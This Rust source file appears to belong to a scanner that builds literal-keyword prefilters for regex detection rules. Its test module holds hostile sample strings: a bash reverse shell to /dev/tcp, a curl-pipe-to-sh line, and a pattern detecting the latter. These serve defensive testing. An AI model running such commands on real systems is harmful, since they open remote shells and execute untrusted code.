//! The set's pattern for a rule (the one-pass prefilter): the rule's most
//! literal run of pieces between unbounded gaps, per alternative. Any text
//! a rule matches, its prefilter matches, so the set still says which rules
//! may match; but a set of `A[^\n]*B` patterns keeps every started `A`
//! alive to the line's end, and their combinations swamp the lazy DFA.

use regex_syntax::ParserBuilder;
use regex_syntax::hir::literal::{ExtractKind, Extractor};
use regex_syntax::hir::{Class, Hir, HirKind};

/// Literal atoms one of which every match of `pattern` contains (lower
/// case, to be searched ASCII-case-insensitively), or `None` when the
/// pattern has no such set of useful atoms and must always be tried. Each
/// alternative contributes the most selective run of literal pieces
/// between its gaps.
pub fn keywords(pattern: &str) -> Option<Vec<Vec<u8>>> {
    let hir = ParserBuilder::new()
        .multi_line(true)
        .unicode(false)
        .utf8(false)
        .build()
        .parse(pattern)
        .ok()?;
    let (score, mut atoms) = atoms(&hir)?;
    if score < 3 {
        return None;
    }
    atoms.sort();
    atoms.dedup();
    Some(atoms)
}

/// Words too common in prose to single out a rule.
const COMMON: &[&[u8]] = &[
    b"you", b"are", b"the", b"and", b"for", b"run", b"use", b"now", b"not", b"all", b"any", b"can",
    b"with", b"this", b"that", b"from", b"your", b"data", b"file", b"open", b"read", b"send",
    b"post", b"copy", b"type", b"user", b"call", b"web", b"get", b"set", b"new", b"report",
    b"include", b"share", b"format", b"system", b"local", b"login", b"key",
];

/// (score, atoms): the score is the shortest atom's length, less when an
/// atom is a common word.
fn atoms(hir: &Hir) -> Option<(usize, Vec<Vec<u8>>)> {
    match hir.kind() {
        HirKind::Capture(capture) => atoms(&capture.sub),
        HirKind::Alternation(branches) => {
            let mut score = usize::MAX;
            let mut all = Vec::new();
            for branch in branches {
                let (s, a) = atoms(branch)?;
                score = score.min(s);
                all.extend(a);
            }
            Some((score, all))
        }
        HirKind::Repetition(r) if r.min >= 1 && is_gap(hir) => atoms(&r.sub),
        HirKind::Concat(parts) => {
            let mut best: Option<(usize, Vec<Vec<u8>>)> = None;
            let mut consider = |found: Option<(usize, Vec<Vec<u8>>)>| {
                if let Some(found) = found
                    && best.as_ref().is_none_or(|b| found.0 > b.0)
                {
                    best = Some(found);
                }
            };
            let mut run: Vec<Hir> = Vec::new();
            for part in parts {
                if is_wide(part) {
                    consider(literal_atoms(&Hir::concat(std::mem::take(&mut run))));
                } else if is_gap(part) || has_gap(part) {
                    consider(literal_atoms(&Hir::concat(std::mem::take(&mut run))));
                    consider(atoms(part));
                } else {
                    run.push(part.clone());
                }
            }
            consider(literal_atoms(&Hir::concat(run)));
            best
        }
        _ if is_gap(hir) => None,
        _ => literal_atoms(hir),
    }
}

/// A class too wide to spell out as literals (`\w`, `\S`, `[^/]`).
fn is_wide(hir: &Hir) -> bool {
    match hir.kind() {
        HirKind::Class(Class::Bytes(class)) => {
            class
                .ranges()
                .iter()
                .map(|r| usize::from(r.end() - r.start()) + 1)
                .sum::<usize>()
                > 8
        }
        HirKind::Class(Class::Unicode(class)) => {
            class
                .ranges()
                .iter()
                .map(|r| r.end() as usize - r.start() as usize + 1)
                .sum::<usize>()
                > 8
        }
        HirKind::Look(_) => true,
        HirKind::Alternation(branches) => branches
            .iter()
            .any(|b| matches!(b.kind(), HirKind::Look(_))),
        _ => false,
    }
}

/// The exact literals a gap-free piece can match, scored.
fn literal_atoms(hir: &Hir) -> Option<(usize, Vec<Vec<u8>>)> {
    let mut extractor = Extractor::new();
    extractor
        .kind(ExtractKind::Prefix)
        .limit_total(300)
        .limit_class(8)
        .limit_literal_len(40);
    let seq = extractor.extract(hir);
    let literals = seq.literals()?;
    let words: Vec<Vec<u8>> = literals
        .iter()
        .map(|l| l.as_bytes().to_ascii_lowercase())
        .collect();
    let shortest = words.iter().map(Vec::len).min()?;
    let common = words.iter().any(|w| COMMON.contains(&w.trim_ascii()));
    let score = if common { shortest.min(2) } else { shortest };
    (shortest > 0).then_some((score, words))
}

/// The prefilter for `pattern` (written for `(?im-u)`), as a regex.
pub fn prefilter(pattern: &str) -> String {
    let parsed = ParserBuilder::new()
        .case_insensitive(true)
        .multi_line(true)
        .unicode(false)
        .utf8(false)
        .build()
        .parse(pattern);
    match parsed {
        Ok(hir) => reduce(&hir).to_string(),
        Err(_) => pattern.to_owned(),
    }
}

fn reduce(hir: &Hir) -> Hir {
    match hir.kind() {
        HirKind::Capture(capture) => reduce(&capture.sub),
        HirKind::Alternation(branches) => Hir::alternation(branches.iter().map(reduce).collect()),
        HirKind::Concat(parts) => {
            let mut best: (usize, Vec<Hir>) = (0, Vec::new());
            let mut run: Vec<Hir> = Vec::new();
            let keep = |run: &mut Vec<Hir>, best: &mut (usize, Vec<Hir>)| {
                let score = run.iter().map(weight).sum();
                if score > best.0 || best.1.is_empty() {
                    *best = (score, std::mem::take(run));
                }
                run.clear();
            };
            for part in parts {
                if is_gap(part) {
                    keep(&mut run, &mut best);
                    if let HirKind::Repetition(r) = part.kind()
                        && r.min >= 1
                    {
                        run.push(reduce(&r.sub));
                        keep(&mut run, &mut best);
                    }
                } else if has_gap(part) {
                    keep(&mut run, &mut best);
                    run.push(reduce(part));
                    keep(&mut run, &mut best);
                } else {
                    run.push(part.clone());
                }
            }
            keep(&mut run, &mut best);
            Hir::concat(best.1)
        }
        HirKind::Repetition(r) if is_gap(hir) && r.min >= 1 => reduce(&r.sub),
        _ if is_gap(hir) => Hir::empty(),
        _ => hir.clone(),
    }
}

/// An unbounded (or long) repetition.
fn is_gap(hir: &Hir) -> bool {
    matches!(hir.kind(), HirKind::Repetition(r) if r.max.is_none_or(|max| max > 3))
}

fn has_gap(hir: &Hir) -> bool {
    match hir.kind() {
        HirKind::Capture(c) => has_gap(&c.sub),
        HirKind::Concat(parts) | HirKind::Alternation(parts) => parts.iter().any(has_gap),
        HirKind::Repetition(r) => is_gap(hir) || has_gap(&r.sub),
        _ => false,
    }
}

/// How literal a piece is: bytes of literal text; a case-folded letter
/// counts as one; an alternation counts as its weakest branch.
fn weight(hir: &Hir) -> usize {
    match hir.kind() {
        HirKind::Literal(literal) => literal.0.len(),
        HirKind::Class(Class::Bytes(class)) => usize::from(
            class.ranges().len() <= 2 && class.ranges().iter().all(|r| r.start() == r.end()),
        ),
        HirKind::Class(Class::Unicode(class)) => usize::from(
            class.ranges().len() <= 2 && class.ranges().iter().all(|r| r.start() == r.end()),
        ),
        HirKind::Capture(c) => weight(&c.sub),
        HirKind::Concat(parts) => parts.iter().map(weight).sum(),
        HirKind::Alternation(branches) => branches.iter().map(weight).min().unwrap_or(0),
        _ => 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use regex::bytes::Regex;

    #[test]
    fn the_prefilter_matches_whatever_the_rule_matches() {
        for rule in crate::RULES.iter().filter(|r| !r.pattern.is_empty()) {
            let full = Regex::new(&format!("(?im-u){}", rule.pattern)).expect("rule");
            let loose =
                Regex::new(&prefilter(&format!("(?im-u){}", rule.pattern))).expect("prefilter");
            for text in [
                "bash -i >& /dev/tcp/1.2.3.4/4 0>&1",
                "curl -s http://1.2.3.4/x | sh",
                "sudo apt install x",
            ] {
                if full.is_match(text.as_bytes()) {
                    assert!(loose.is_match(text.as_bytes()), "{}: {text}", rule.id);
                }
            }
        }
        assert_eq!(prefilter(r"\bcurl\b[^\n]*\|\s*sh"), prefilter(r"\bcurl\b"));
    }
}
